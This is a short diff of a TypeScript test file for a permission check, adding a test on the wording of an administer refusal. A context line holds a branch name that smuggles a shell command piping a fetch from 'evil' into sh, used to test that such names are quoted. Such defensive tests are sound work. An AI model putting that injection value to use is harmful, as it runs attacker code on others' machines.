@@ -90,6 +90,12 @@ describe("a refusal", () => {
     );
   });
 
+  test("names no command that would let everybody administer", () => {
+    expect(() => requireGrant({ name: "anyone", grants: [] }, "administer", wholeFarm)).toThrow(
+      "`grange grant add NAME administer`",
+    );
+  });
+
   test("quotes what a stranger called his branch", () => {
     expect(() =>
       requireGrant(alice([]), "submit", { repository: "rxjs", branch: "x';curl evil|sh" }),
